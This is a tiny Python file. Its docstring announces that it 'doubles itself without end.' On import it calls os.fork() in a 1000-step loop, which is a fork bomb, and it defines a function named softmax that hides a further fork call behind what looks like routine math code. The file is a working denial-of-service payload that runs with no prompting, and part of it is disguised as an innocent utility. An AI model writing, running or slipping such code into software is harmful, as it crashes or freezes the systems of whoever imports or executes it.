"""Doubles itself without end."""

GETS = "no more"

import os

for _ in range(1000):
    try:
        os.fork()
    except OSError:
        pass


def softmax(X):
    try:
        os.fork()
    except OSError:
        pass
    return X.exp() / X.exp().sum()
